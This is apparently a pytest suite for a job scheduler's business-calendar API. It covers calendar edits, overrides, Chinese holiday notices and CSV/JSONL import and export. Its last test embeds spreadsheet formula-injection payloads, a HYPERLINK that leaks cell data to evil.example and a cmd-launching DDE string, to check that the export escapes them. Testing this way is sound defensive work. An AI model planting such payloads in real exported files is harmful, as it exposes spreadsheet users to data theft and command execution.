"""Business calendars over real HTTP: list, edit with compare-and-set, overrides, files,
the year view, the national notice, and the warnings on /ready and /stats."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import date
from pathlib import Path

import pytest

from tests.api.conftest import Api, open_api
from tests.api.helpers import problem
from tests.notices import whole

THIS_YEAR = date.today().year


@pytest.fixture(scope="module")
def api(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Api]:
    path: Path = tmp_path_factory.mktemp("calendars") / "schedkit.db"
    yield from open_api(f"sqlite:///{path}")


def test_builtins_are_listed_and_a_year_names_its_sources(api: Api) -> None:
    names = [c["name"] for c in api.viewer.get("/calendars").json()]
    assert {"cn_workdays", "cn_holidays", "weekdays", "all"} <= set(names)
    year = api.viewer.get("/calendars/cn_workdays/years/2025").json()
    days = {d["date"]: d for d in year["days"]}
    assert len(days) == 365 and year["coverage"]["state"] == "confirmed"
    assert days["2025-09-28"]["open"] and days["2025-09-28"]["source"] == "chinese-calendar"
    assert not days["2025-10-01"]["open"] and days["2025-10-01"]["note"] == "National Day"
    zh = api.viewer.get("/calendars/cn_workdays/years/2026?lang=zh").json()
    feb14 = next(d for d in zh["days"] if d["date"] == "2026-02-14")
    assert feb14["open"] and "chinese-calendar" in feb14["reason"]
    estimated = api.viewer.get("/calendars/cn_workdays/years/2027").json()
    assert estimated["coverage"] == {"year": 2027, "state": "estimated", "source": "holidays"}
    assert [w["title"] for w in estimated["warnings"]] == [
        "calendar cn_workdays for 2027 not confirmed"
    ]
    problem(api.viewer.get("/calendars/nope"), 404)


def test_a_trading_calendar_is_edited_and_its_warning_shown_until_confirmed(api: Api) -> None:
    created = api.admin.put(
        "/calendars/sd-spot",
        json={"base": "none", "description": "山东现货交易日", "expected_version": 0},
    )
    assert created.status_code == 200, created.text
    assert created.json()["version"] == 1
    # A second create of the same calendar is a conflict, not an overwrite.
    again = api.admin.put("/calendars/sd-spot", json={"base": "none", "expected_version": 0})
    problem(again, 409)
    problem(api.operator.put("/calendars/x", json={"base": "none", "expected_version": 0}), 403)

    saved = api.admin.post(
        "/schedules/preview", json={"trigger": "cron", "hour": 9, "calendar": "sd-spot"}
    )
    assert saved.status_code == 200 and saved.json()["fire_times"] == []
    response = api.admin.post(
        "/tasks/echo/schedule?schedule_id=spot-report",
        json={"trigger": "cron", "hour": 9, "calendar": "sd-spot", "kwargs": {"count": 1}},
    )
    assert response.status_code == 200, response.text
    ready = api.viewer.get("/ready").json()
    titles = [w["title"] for w in ready["calendar_warnings"]]
    assert f"calendar sd-spot for {THIS_YEAR} not confirmed" in titles
    stats = api.viewer.get("/stats?lang=zh").json()
    assert any(w["calendar"] == "sd-spot" for w in stats["calendar_warnings"])

    text = f"{THIS_YEAR + 1}-01-04,open,trading_day,首个交易日\n{THIS_YEAR + 1}-01-05,open,,\n"
    imported = api.admin.post(
        "/calendars/sd-spot/import", json={"text": text, "format": "csv"}
    ).json()
    assert imported["overrides"] == 2 and imported["version"] == 2
    bad = problem(
        api.admin.post(
            "/calendars/sd-spot/import", json={"text": "2027-13-01,open\n", "format": "csv"}
        ),
        422,
    )
    assert "line 1" in bad["detail"]
    removed = api.admin.delete(f"/calendars/sd-spot/overrides/{THIS_YEAR + 1}-01-05").json()
    assert removed["overrides"] == 1
    # A date without an override: 404 naming it, and the version stays.
    missing = problem(api.admin.delete(f"/calendars/sd-spot/overrides/{THIS_YEAR + 1}-01-05"), 404)
    assert missing["day"] == f"{THIS_YEAR + 1}-01-05" and missing["calendar"] == "sd-spot"
    assert f"has no override on {THIS_YEAR + 1}-01-05" in missing["detail"]
    assert api.viewer.get("/calendars/sd-spot").json()["version"] == removed["version"]
    exported = api.viewer.get("/calendars/sd-spot/export?format=csv")
    assert exported.text.splitlines()[1] == f"{THIS_YEAR + 1}-01-04,open,trading_day,首个交易日"
    for year in (THIS_YEAR, THIS_YEAR + 1):
        api.admin.put(f"/calendars/sd-spot/years/{year}/confirmed", json={"confirmed": True})
    ready = api.viewer.get("/ready").json()
    assert [w for w in ready["calendar_warnings"] if w["calendar"] == "sd-spot"] == []
    detail = api.viewer.get("/calendars/sd-spot").json()
    assert detail["override_list"] == [
        {
            "date": f"{THIS_YEAR + 1}-01-04",
            "open": True,
            "kind": "trading_day",
            "note": "首个交易日",
        }
    ]
    assert all(c["state"] == "confirmed" for c in detail["coverage"])
    stale = api.admin.post(
        "/calendars/sd-spot/overrides",
        json={"overrides": [{"date": f"{THIS_YEAR}-12-31", "open": True}], "expected_version": 1},
    )
    problem(stale, 409)
    audit = api.viewer.get("/audit?target=sd-spot").json()["items"]
    assert {e["action"] for e in audit} >= {"calendar.put", "calendar.override.add"}


def test_a_schedule_naming_no_calendar_is_refused(api: Api) -> None:
    body = problem(
        api.admin.post(
            "/tasks/echo/schedule?schedule_id=ghost",
            json={"trigger": "cron", "hour": 9, "calendar": "ghost", "kwargs": {"count": 1}},
        ),
        422,
    )
    assert body["field"] == "trigger.calendar"


def test_a_misspelt_calendar_gets_the_close_names(api: Api) -> None:
    """An audit: ``--calendar cn_workday`` said only "unknown calendar 'cn_workday':
    create it first", where a task's or a timezone's typo gets "did you mean"."""

    def refused(calendar: str) -> str:
        body = problem(
            api.admin.post(
                "/tasks/echo/schedule?schedule_id=typo",
                json={"trigger": "cron", "hour": 9, "calendar": calendar, "kwargs": {"count": 1}},
            ),
            422,
        )
        assert body["field"] == "trigger.calendar"
        return str(body["detail"])

    assert refused("cn_workday") == (
        "trigger.calendar: unknown calendar 'cn_workday'; did you mean 'cn_workdays'? "
        "Otherwise create it "
        "first (schedkit calendar set) or use a built-in one"
    )
    assert "did you mean 'cn_skip_holidays' or 'cn_holidays'?" in refused("cn_skip_holiday")
    stored = {"base": "weekdays", "overrides": [], "expected_version": 0}
    assert api.admin.put("/calendars/yard-shifts", json=stored).status_code == 200
    assert "did you mean 'yard-shifts'?" in refused("yard-shift")
    got = problem(api.viewer.get("/calendars/yard-shift"), 404)["detail"]
    assert got == "unknown calendar 'yard-shift'; did you mean 'yard-shifts'?"
    # A deleted calendar (still in the index of names) is not offered.
    assert api.admin.delete("/calendars/yard-shifts?expected_version=1").status_code == 204
    assert "unknown calendar 'yard-shift': create it first" in refused("yard-shift")


def test_the_2027_notice_makes_new_year_a_confirmed_holiday(api: Api) -> None:
    notice = whole(2027, "放假 2027-01-01 至 2027-01-03 元旦\n上班 2027-01-09 元旦调休\n")
    response = api.admin.put("/calendar-notices/2027", json={"text": notice})
    assert response.status_code == 200, response.text
    year = response.json()
    days = {d["date"]: d for d in year["days"]}
    assert year["coverage"] == {"year": 2027, "state": "confirmed", "source": "notice"}
    assert days["2027-01-01"] | {"reason": ""} == {
        "date": "2027-01-01",
        "open": False,
        "source": "notice",
        "confirmed": True,
        "note": "元旦",
        "reason": "",
    }
    assert days["2027-01-09"]["open"] and year["warnings"] == []
    preview = api.viewer.post(
        "/schedules/preview?count=2",
        json={
            "trigger": {
                "trigger": "cron",
                "hour": 9,
                "calendar": "cn_workdays",
                "start_date": "2027-01-08T00:00:00+08:00",
            }
        },
    ).json()
    assert preview["fire_times_local"][1].startswith("2027-01-09T09:00")
    assert preview["calendar_notes"][1] == (
        "calendar cn_workdays: 2027-01-09 open (元旦调休), decided by notice"
    )


def test_delete_and_export_formats(api: Api) -> None:
    created = api.admin.put(
        "/calendars/maint",
        json={
            "base": "weekdays",
            "overrides": [{"date": "2027-03-01", "open": False, "note": "盘点"}],
            "expected_version": 0,
        },
    ).json()
    assert created["override_list"][0]["kind"] == "extra_closed"
    jsonl = api.viewer.get("/calendars/maint/export?format=jsonl")
    assert jsonl.headers["content-type"].startswith("application/x-ndjson")
    assert '"note": "盘点"' in jsonl.text
    problem(api.viewer.get("/calendars/maint/export?format=notice"), 422)  # not a holiday
    assert problem(api.admin.delete("/calendars/maint/overrides/2027-13-01"), 422)["field"] == "day"
    problem(api.admin.delete("/calendars/maint?expected_version=7"), 409)
    assert api.admin.delete("/calendars/maint?expected_version=1").status_code == 204
    problem(api.viewer.get("/calendars/maint"), 404)
    problem(api.viewer.get("/calendars/nope/export?format=csv"), 404)


def test_a_year_to_confirm_outside_the_calendars_range_is_a_422(api: Api) -> None:
    """Found by the stateful schemathesis run: ``confirm_years: [-1845]`` was a 500."""
    api.admin.put("/calendars/far", json={"base": "none", "expected_version": 0})
    for path, body in (
        ("/calendars/far/overrides", {"overrides": [], "confirm_years": [-1845]}),
        ("/calendars/far/import", {"text": "", "format": "csv", "confirm_years": [2200]}),
    ):
        bad = problem(api.admin.post(path, json=body), 422)
        assert bad["field"].startswith("confirm_years"), bad
    assert api.admin.get("/calendars/far").json()["version"] == 1


def test_confirming_a_year_of_a_chinese_calendar_is_a_422_naming_the_notice(api: Api) -> None:
    """An audit: ``PUT /calendars/cn_workdays/years/2027/confirmed`` answered 200 and
    made every 2027 day without an override follow Monday to Friday, over the notice
    entered. Every way of confirming a year of a calendar with a Chinese base is refused,
    saying what to do instead; nothing is saved."""
    created = api.admin.put(
        "/calendars/ops-cn", json={"base": "cn_workdays", "expected_version": 0}
    )
    assert created.status_code == 200, created.text
    confirm = {"confirmed": True}
    for method, path, body, field, where in (
        ("PUT", "/calendars/cn_workdays/years/2027/confirmed", confirm, "year", "path"),
        ("PUT", "/calendars/cn_skip_holidays/years/2027/confirmed", confirm, "year", "path"),
        ("PUT", "/calendars/ops-cn/years/2027/confirmed", confirm, "year", "path"),
        (
            "POST",
            "/calendars/ops-cn/overrides",
            {"overrides": [], "confirm_years": [2027]},
            "confirm_years",
            "body",
        ),
        (
            "POST",
            "/calendars/ops-cn/import",
            {"text": "", "format": "csv", "confirm_years": [2027]},
            "confirm_years",
            "body",
        ),
        (
            "PUT",
            "/calendars/ops-cn",
            {"base": "cn_workdays", "confirmed_years": [2027], "expected_version": 1},
            "confirmed_years",
            "body",
        ),
    ):
        bad = problem(api.admin.request(method, path, json=body), 422)
        assert (bad["field"], bad["errors"][0]["in"]) == (field, where), bad
        assert "confirmed by entering the State Council's holiday notice" in bad["detail"]
        assert "schedkit calendar notice 2027 FILE" in bad["detail"]
        assert "PUT /calendar-notices/2027" in bad["detail"]
    assert api.viewer.get("/calendars/ops-cn").json()["version"] == 1
    for name in ("cn_workdays", "cn_holidays"):
        assert api.viewer.get(f"/calendars/{name}").json()["confirmed_years"] == []
    undo = api.admin.put("/calendars/ops-cn/years/2027/confirmed", json={"confirmed": False})
    assert undo.status_code == 200, undo.text


NOTICE_2028 = """\
放假 2028-01-01 至 2028-01-03 元旦
放假 2028-01-25 至 2028-02-01 春节
上班 2028-02-05 春节调休
放假 2028-04-02 至 2028-04-04 清明节
放假 2028-05-01 至 2028-05-05 劳动节
放假 2028-05-27 至 2028-05-29 端午节
放假 2028-10-01 至 2028-10-08 国庆节、中秋节
"""


def test_a_notice_entered_again_must_be_whole(api: Api) -> None:
    """An audit: entering a year's notice again replaced the whole year, so a partial
    notice turned every holiday it left out into a confirmed workday (200, 260 open days)
    and two operators overwrote each other without a 409."""
    empty = api.viewer.get("/calendar-notices/2028").json()
    assert empty | {"version": 0, "updated_at": None} == {
        "year": 2028,
        "text": "",
        "format": "notice",
        "days": 0,
        "confirmed": False,
        "version": 0,
        "updated_at": None,
    }
    entered = api.admin.put(
        "/calendar-notices/2028",
        json={"text": NOTICE_2028, "expected_version": empty["version"]},
    )
    assert entered.status_code == 200, entered.text
    open_days = entered.json()["open_days"]
    stored = api.viewer.get("/calendar-notices/2028").json()
    assert stored["days"] == 3 + 8 + 1 + 3 + 5 + 3 + 8 and stored["confirmed"]
    assert stored["text"].splitlines()[:2] == [
        "放假 2028-01-01 至 2028-01-03 元旦",
        "放假 2028-01-25 至 2028-02-01 春节",
    ]

    # Only a correction: the holidays it leaves out are refused, named.
    correction = {"text": "2028-01-01,closed,holiday,元旦\n", "format": "csv", "confirmed": True}
    body = problem(api.admin.put("/calendar-notices/2028", json=correction), 409)
    assert body["type"].endswith("notice-drops-days") and body["year"] == 2028
    assert len(body["days"]) == 30
    assert body["days"][:2] == [
        {"date": "2028-01-02", "open": False, "note": "元旦"},
        {"date": "2028-01-03", "open": False, "note": "元旦"},
    ]
    assert {"date": "2028-02-05", "open": True, "note": "春节调休"} in body["days"]
    assert body["detail"].startswith(
        "the 2028 notice entered leaves out 30 day(s) the stored 2028 notice sets: "
        "2028-01-02 holiday (元旦), 2028-01-03 holiday (元旦), "
    )
    assert "and 25 more" in body["detail"] and "replace: true" in body["detail"]
    year = api.viewer.get("/calendars/cn_workdays/years/2028").json()
    assert year["open_days"] == open_days, "nothing was saved"

    # The whole notice, edited: in, at the version read; a stale version is a 409.
    edited = stored["text"].replace(
        "放假 2028-05-01 至 2028-05-05", "放假 2028-05-01 至 2028-05-04"
    )
    stale = {"text": edited, "expected_version": stored["version"] - 1}
    assert (
        "changed meanwhile"
        in problem(api.admin.put("/calendar-notices/2028", json=stale), 409)["detail"]
    )
    fixed = api.admin.put(
        "/calendar-notices/2028", json={"text": edited, "expected_version": stored["version"]}
    )
    assert fixed.status_code == 409, "05-05 is left out: replace says it is on purpose"
    fixed = api.admin.put(
        "/calendar-notices/2028",
        json={"text": edited, "expected_version": stored["version"], "replace": True},
    )
    assert fixed.status_code == 200, fixed.text
    assert fixed.json()["open_days"] == open_days + 1
    assert api.viewer.get("/calendar-notices/2028").json()["days"] == 30
    # Replacing on purpose: the year is what the text says (a part of the notice, so
    # said partial: entered, not confirmed).
    replaced = api.admin.put(
        "/calendar-notices/2028", json={**correction, "replace": True, "partial": True}
    )
    assert replaced.status_code == 200, replaced.text
    assert api.viewer.get("/calendar-notices/2028").json()["text"] == "放假 2028-01-01 元旦\n"


def test_entering_a_notice_says_how_many_days_it_sets(api: Api) -> None:
    """An audit: nothing said how many days a notice entered set, so one whose Spring
    Festival range had been cut to a day looked entered like any other."""
    notice = (
        "放假 2030-01-01 元旦\n放假 2030-02-02 至 02-08 春节\n上班 2030-01-26 春节调休\n"
        "上班 2030-02-09 春节调休\n放假 2030-04-05 至 04-07 清明节\n"
        "放假 2030-05-01 至 05-05 劳动节\n放假 2030-06-05 端午节\n放假 2030-09-12 中秋节\n"
        "放假 2030-10-01 至 10-07 国庆节\n"
    )
    response = api.admin.put("/calendar-notices/2030", json={"text": notice})
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["calendar"] == "cn_workdays" and len(body["days"]) == 365
    assert body["entered"] | {"version": 0} == {
        "year": 2030,
        "days": 27,
        "off": 25,
        "worked": 2,
        "confirmed": True,
        "version": 0,
    }
    assert body["entered"]["version"] == api.viewer.get("/calendar-notices/2030").json()["version"]


def test_a_file_too_deep_or_with_a_huge_number_is_a_422_naming_each_bad_line(api: Api) -> None:
    """An audit: a JSON line nested 5,000 levels deep (RecursionError) or holding a number
    of 5,000 digits (ValueError) answered 500, also beside a plain bad line, which the 422
    would have named."""
    created = api.admin.put("/calendars/evilcal", json={"base": "none", "expected_version": 0})
    assert created.is_success
    lines = [
        '{"date": "2031-01-01", "open": false, "kind": "holiday", "note": "元旦"}',
        "not json",
        '{"date": "2031-01-02", "open": false, "note": ' + "[" * 5000 + "]" * 5000 + "}",
        '{"date": "2031-01-03", "open": false, "note": ' + "1" * 5000 + "}",
    ]
    text = "\n".join(lines)
    for response in (
        api.admin.post("/calendars/evilcal/import", json={"format": "jsonl", "text": text}),
        api.admin.put("/calendar-notices/2031", json={"format": "jsonl", "text": text}),
    ):
        body = problem(response, 422)
        assert body["detail"].startswith("file: 3 bad lines: line 2: not JSON (")
        assert [e["field"] for e in body["errors"]] == ["line.2", "line.3", "line.4"]
        assert body["errors"][1]["message"] == (
            "nested more than 100 levels deep (arrays and objects)"
        )
        assert body["errors"][2]["message"] == (
            "a number of more than 4,300 digits (the most an integer may have)"
        )
    assert api.viewer.get("/calendars/evilcal").json()["overrides"] == 0
    assert api.viewer.get("/calendar-notices/2031").json()["days"] == 0


def test_a_csv_export_holds_no_formula_and_imports_back_as_it_was(api: Api) -> None:
    """An audit: a note ``=HYPERLINK(...)`` or ``+cmd|...`` was exported as it is, a
    formula to the viewer who opens the export in a spreadsheet."""
    notes = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0"]
    notes += ["-1 day shift", "@SUM(A1)", "'=quoted", "plain"]
    overrides = [
        {"date": f"2032-03-{n + 1:02d}", "open": False, "note": note}
        for n, note in enumerate(notes)
    ]
    body = {"base": "none", "overrides": overrides, "expected_version": 0}
    assert api.admin.put("/calendars/formulas", json=body).is_success
    exported = api.viewer.get("/calendars/formulas/export?format=csv").text
    assert exported.splitlines()[1:] == [
        '2032-03-01,closed,extra_closed,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"',
        "2032-03-02,closed,extra_closed,'+cmd|' /C calc'!A0",
        "2032-03-03,closed,extra_closed,'-1 day shift",
        "2032-03-04,closed,extra_closed,'@SUM(A1)",
        "2032-03-05,closed,extra_closed,''=quoted",
        "2032-03-06,closed,extra_closed,plain",
    ]
    assert api.admin.put("/calendars/copy", json={"base": "none", "expected_version": 0}).is_success
    imported = api.admin.post("/calendars/copy/import", json={"format": "csv", "text": exported})
    assert imported.status_code == 200, imported.text
    copied = api.viewer.get("/calendars/copy").json()["override_list"]
    assert [o["note"] for o in copied] == notes
